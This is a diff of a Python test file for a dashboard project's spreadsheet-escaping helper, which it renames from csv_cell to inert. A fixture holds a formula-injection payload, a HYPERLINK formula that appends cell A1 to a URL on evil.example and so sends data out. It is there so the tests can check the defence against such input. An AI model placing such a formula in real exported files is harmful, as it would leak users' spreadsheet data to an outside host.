@@ -15,7 +15,7 @@ from streamlit.testing.v1 import AppTest
 
 from dashboards import plan_report, queries
 from dashboards import workbook as wall_workbook
-from dashboards.inert import csv_cell, inert_workbook, md
+from dashboards.inert import inert, inert_workbook, md
 from pipelines.templates import TEMPLATES
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klicka") '
@@ -90,10 +90,8 @@ def test_templates_are_inert(tmp_path: Path) -> None:
 
 
 def test_the_escaping_rules() -> None:
-    assert (
-        csv_cell("=1+1") == "'=1+1" and csv_cell("\tx") == "'\tx" and csv_cell("Lomma") == "Lomma"
-    )
-    assert csv_cell(-5) == -5  # numbers are numbers
+    assert inert("=1+1") == "'=1+1" and inert("\tx") == "'\tx" and inert("Lomma") == "Lomma"
+    assert inert(-5) == -5  # numbers are numbers
     book = openpyxl.Workbook()
     book.active.append(["=1+1", "@x", "ok"])
     inert_workbook(book)
